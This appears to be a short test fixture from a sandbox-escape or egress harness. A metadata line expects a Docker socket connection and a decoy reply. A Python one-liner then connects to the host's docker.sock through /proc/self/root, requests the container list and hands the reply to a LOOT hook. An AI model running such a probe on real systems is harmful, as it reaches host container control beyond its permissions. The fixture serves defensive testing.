#: {"class": "egress", "loader": "script", "expect": [["connect", "docker\\.sock"]], "effect": {"loot": "DECOY-reply"}}
import socket
s = socket.socket(socket.AF_UNIX); s.connect("/proc/self/root/run/docker.sock"); s.sendall(b"GET /containers/json HTTP/1.0\r\n\r\n"); LOOT(s.recv(999))
